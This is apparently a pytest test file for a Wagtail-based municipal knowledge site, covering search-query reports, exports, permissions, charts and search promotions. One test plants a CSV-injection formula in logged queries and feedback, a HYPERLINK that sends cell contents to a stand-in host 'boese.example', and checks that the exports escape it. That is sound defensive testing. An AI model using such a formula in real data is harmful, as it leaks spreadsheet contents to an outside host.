"""The knowledge-gap dashboard (Wagtail reports) on a known log, its exports, its
permissions, the weekly chart, and promoted search results ("Empfohlen")."""

from __future__ import annotations

import csv
import datetime as dt
import io
import re

import openpyxl
import pytest
from django.contrib.auth.models import Group
from django.utils import timezone
from wagtail.contrib.search_promotions.models import Query, SearchPromotion
from wagtail.models import PageViewRestriction

from network.charts import weekly_search_figures
from network.models import Feedback, QueryLog
from network.reports import aggregate_queries, gap_rows
from tests.search_fixtures import *  # noqa: F403

pytestmark = pytest.mark.django_db
QUERIES_URL = "/admin/netz/suchanfragen/"


def _log(query, results, clicks=0, days_ago=0, surface="suche"):
    entry = QueryLog.objects.create(query=query, normalized=query.lower(), surface=surface,
                                    result_count=results, clicks=clicks)
    if days_ago:
        QueryLog.objects.filter(pk=entry.pk).update(
            created_at=timezone.now() - dt.timedelta(days=days_ago))
    return entry


@pytest.fixture
def known_log(make_page):
    page = make_page("lesson_learned", title="E-Akte Lemgo")
    e_akte = [_log("E-Akte", 5, clicks=1), _log("e-akte", 4, clicks=1), _log("E-Akte", 0)]
    for _ in range(2):
        _log("Friedhof", 0)
    for _ in range(4):
        _log("Glasfaser", 7)
    _log("Parkraum", 3, clicks=2, surface="api")
    _log("Uralt", 0, days_ago=40)
    for n in range(2):
        Feedback.objects.create(page=page, helpful=False, source="suche", query="e-akte",
                                query_log=e_akte[0], rank=1, session_hash=f"s{n}")
    Feedback.objects.create(page=page, helpful=True, source="seite", session_hash="s9")
    return page


def _rows(view=""):
    return {r["normalized"]: r for r in aggregate_queries(QueryLog.objects.all(), view)}


def test_query_figures_on_a_known_log(known_log):
    rows = _rows()
    assert list(rows)[:2] == ["glasfaser", "e-akte"]
    assert {k: (r["searches"], r["zero_results"], r["clicks"], r["negative_feedback"])
            for k, r in rows.items()} == {
        "glasfaser": (4, 0, 0, 0), "e-akte": (3, 1, 2, 2), "friedhof": (2, 2, 0, 0),
        "parkraum": (1, 0, 2, 0), "uralt": (1, 1, 0, 0)}
    assert list(_rows("ohne_treffer")) == ["friedhof", "e-akte", "uralt"]
    assert list(_rows("wenig_klicks")) == ["glasfaser"]
    for _ in range(3):  # only through the API, whose results cannot be clicked
        _log("Zebraschnecke", 6, surface="api")
    assert list(_rows("wenig_klicks")) == ["glasfaser"]
    assert list(_rows("negativ")) == ["e-akte"]


@pytest.fixture
def redaktion_client(client, user_in):
    client.force_login(user_in("Redaktion"))
    return client


def test_queries_report_page_with_filters_and_chart(redaktion_client, known_log):
    response = redaktion_client.get(QUERIES_URL)
    assert response.status_code == 200
    html = response.content.decode()
    assert "glasfaser" in html and "friedhof" in html
    assert '<svg role="img"' in html and "Zahlen als Tabelle" in html
    start = html.index('<svg role="img"')
    svg = html[start:html.index("</svg>", start)]
    coordinates = re.findall(r'\s(?:x|y|height|cx|cy)="([^"]*)"', svg)
    assert coordinates and all(re.fullmatch(r"-?\d+(\.\d+)?", c) for c in coordinates)
    points = re.search(r'points="([^"]*)"', svg).group(1).split()
    assert len(points) == 12 and all(re.fullmatch(r"[\d.]+,[\d.]+", p) for p in points)
    since = (timezone.localdate() - dt.timedelta(days=7)).isoformat()
    html = redaktion_client.get(QUERIES_URL, {"von": since, "ansicht": "ohne_treffer"}) \
        .content.decode()
    assert "friedhof" in html and "uralt" not in html and "glasfaser" not in html
    api_only = redaktion_client.get(QUERIES_URL + "ergebnisse/", {"surface": "api"})
    assert api_only.status_code == 200
    assert "parkraum" in api_only.content.decode()
    assert "glasfaser" not in api_only.content.decode()


def test_queries_report_exports_csv_and_xlsx(redaktion_client, known_log):
    response = redaktion_client.get(QUERIES_URL, {"export": "csv"})
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    body = b"".join(response.streaming_content)
    assert body.startswith("\ufeff".encode())  # Excel reads umlauts as UTF-8 only with it
    rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))
    assert rows[0][:5] == ["Suchanfrage", "Suchen", "ohne Treffer", "Klicks",
                           "Nicht hilfreich"]
    assert rows[1][:5] == ["glasfaser", "4", "0", "0", "0"]
    response = redaktion_client.get(QUERIES_URL, {"export": "xlsx", "ansicht": "negativ"})
    sheet = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    values = list(sheet.iter_rows(values_only=True))
    assert values[1][:5] == ("e-akte", 3, 1, 2, 2)


def test_csv_exports_write_formulas_as_text(redaktion_client, make_page):
    """Visitors type the queries and comments: a spreadsheet must not run them (CSV
    injection); XLSX is protected by Wagtail itself."""
    formula = '=HYPERLINK("http://boese.example/?"&A1;"klick")'
    _log(formula, 0)
    page = make_page("lesson_learned", title="@SUMME(1;2)")
    Feedback.objects.create(page=page, helpful=False, comment="+1 " + formula, source="seite",
                            session_hash="s2")
    exports = {url: list(csv.reader(io.StringIO(b"".join(
        redaktion_client.get(url, {"export": "csv"}).streaming_content).decode("utf-8-sig"))))
        for url in (QUERIES_URL, "/admin/netz/rueckmeldungen/", "/admin/netz/seiten-feedback/")}
    cells = [cell for rows in exports.values() for row in rows[1:] for cell in row]
    assert "'" + formula.lower() in cells and "'@SUMME(1;2)" in cells
    assert "'+1 " + formula in cells
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@")]


def test_weekly_chart_figures(known_log):
    figures = weekly_search_figures(timezone.now())
    rows = figures["rows"]
    assert len(rows) == 12
    assert (rows[-1]["searches"], rows[-1]["zero"], rows[-1]["share"]) == (10, 3, 30)
    assert sum(r["searches"] for r in rows) == 11  # the 40-day-old search is in week -6/-5
    assert figures["peak"] == 10
    assert rows[-1]["bar"]["h"] == figures["baseline"] - figures["top"]


def test_reports_are_for_the_redaktion(client, user_in, known_log):
    assert client.get(QUERIES_URL).status_code == 302  # to the login
    client.force_login(user_in("Kommune"))
    for url in (QUERIES_URL, "/admin/netz/aktualitaet/", "/admin/netz/luecken/"):
        assert client.get(url).status_code in (302, 403)
        assert "glasfaser" not in client.get(url).content.decode()


def test_feedback_reports_show_editors_only_their_own_pages(client, user_in, make_page,
                                                            known_log):
    editor = user_in("Beratung")
    own = make_page("lesson_learned", title="Eigene Seite")
    own.owner = editor
    own.save()
    Feedback.objects.create(page=own, helpful=False, comment="Fehlt die Kostenschätzung",
                            source="seite", session_hash="x")
    client.force_login(editor)
    html = client.get("/admin/netz/rueckmeldungen/").content.decode()
    assert "Fehlt die Kostenschätzung" in html and "E-Akte Lemgo" not in html
    html = client.get("/admin/netz/seiten-feedback/").content.decode()
    assert "Eigene Seite" in html and "E-Akte Lemgo" not in html
    client.force_login(user_in("Redaktion"))
    response = client.get("/admin/netz/seiten-feedback/", {"export": "csv"})
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode(
        "utf-8-sig"))))
    assert rows[1] == ["E-Akte Lemgo", "2", "1", "0"]
    assert rows[2] == ["Eigene Seite", "1", "0", "1"]
    html = client.get("/admin/netz/rueckmeldungen/", {"helpful": "false"}).content.decode()
    assert "Fehlt die Kostenschätzung" in html


def test_review_report(redaktion_client, make_page):
    today = timezone.localdate().isoformat()
    overdue = make_page("lesson_learned", title="Überfällige Lektion", date=today)
    overdue.review_by = timezone.localdate() - dt.timedelta(days=3)
    overdue.save()
    make_page("lesson_learned", title="Frische Lektion", date=today)
    old = make_page("lesson_learned", title="Lange nicht angefasst")
    type(old).objects.filter(pk=old.pk).update(
        last_published_at=timezone.now() - dt.timedelta(days=400))
    html = redaktion_client.get("/admin/netz/aktualitaet/").content.decode()
    assert "Überfällige Lektion" in html and "Lange nicht angefasst" in html
    assert "Frische Lektion" not in html
    html = redaktion_client.get("/admin/netz/aktualitaet/", {"monate": 24}).content.decode()
    assert "Lange nicht angefasst" not in html and "Überfällige Lektion" in html


def test_gap_report(redaktion_client, make_page):
    today = timezone.localdate()
    make_page("lesson_learned", topics=["Friedhof"], municipality="Rahden",
              date=(today - dt.timedelta(days=500)).isoformat())  # imported: its own date
    make_page("lesson_learned", topics=["Breitband"], municipality="Lemgo",
              date=today.isoformat())
    from knowledge.models import Topic

    Topic.objects.create(name="Leeres Thema")
    rows = gap_rows(timezone.now() - dt.timedelta(days=365))
    assert [(r["kind"], r["name"], r["pages"]) for r in rows] == [
        ("Thema", "Leeres Thema", 0), ("Thema", "Friedhof", 1), ("Kommune", "Rahden", 1)]
    html = redaktion_client.get("/admin/netz/luecken/").content.decode()
    assert "Leeres Thema" in html and "Breitband" not in html


def test_gap_report_counts_all_pages_and_takes_the_newest(make_page):
    """Several pages per topic and municipality: the newest date counts, and every page."""
    today = timezone.localdate()
    for days in (900, 30, 700):
        make_page("lesson_learned", topics=["Friedhof"], municipality="Rahden",
                  date=(today - dt.timedelta(days=days)).isoformat())
    make_page("lesson_learned", topics=["Breitband"], municipality="Lemgo",
              date=(today - dt.timedelta(days=800)).isoformat())
    make_page("lesson_learned", topics=["Breitband"], municipality="Lemgo",
              date=(today - dt.timedelta(days=600)).isoformat())
    rows = {(r["kind"], r["name"]): r for r in gap_rows(timezone.now() - dt.timedelta(days=365))}
    assert ("Thema", "Friedhof") not in rows and ("Kommune", "Rahden") not in rows
    assert rows[("Thema", "Breitband")]["pages"] == 2
    assert rows[("Kommune", "Lemgo")]["pages"] == 2
    assert (timezone.localdate(rows[("Thema", "Breitband")]["latest"])
            == today - dt.timedelta(days=600))


# --- Promotions -----------------------------------------------------------------------------


def test_promoted_page_is_shown_first(client, indexed_page):
    indexed_page("lesson_learned", title="Glasfaser in Schulen",
                 summary="Glasfaser für alle Schulen.")
    promoted = indexed_page("best_practice", title="Leitfaden Breitbandförderung",
                            summary="Förderanträge Schritt für Schritt.")
    query = Query.get("Glasfaser")
    SearchPromotion.objects.create(query=query, page=promoted, sort_order=0,
                                   description="Der Leitfaden der Redaktion.")
    html = client.get("/suche/", {"q": "  glasfaser "}).content.decode()
    assert "Empfohlen" in html and "Der Leitfaden der Redaktion." in html
    assert html.index("Leitfaden Breitbandförderung") < html.index("Glasfaser in Schulen")
    assert "Empfohlen" not in client.get("/suche/", {"q": "Schulen"}).content.decode()


def test_restricted_promotions_are_hidden(client, indexed_page, user_in):
    secret = indexed_page("best_practice", title="Interner Leitfaden")
    restriction = PageViewRestriction.objects.create(
        page=secret, restriction_type=PageViewRestriction.GROUPS)
    restriction.groups.add(Group.objects.get(name="Redaktion"))
    SearchPromotion.objects.create(query=Query.get("leitfaden"), page=secret, sort_order=0)
    html = client.get("/suche/", {"q": "Leitfaden"}).content.decode()
    assert "Interner Leitfaden" not in html and "Empfohlen" not in html
    client.force_login(user_in("Redaktion"))
    assert "Interner Leitfaden" in client.get("/suche/", {"q": "Leitfaden"}).content.decode()


def test_redaktion_may_manage_promotions(client, user_in):
    client.force_login(user_in("Redaktion"))
    assert client.get("/admin/searchpicks/").status_code == 200
    client.force_login(user_in("Kommune"))
    assert client.get("/admin/searchpicks/").status_code in (302, 403)
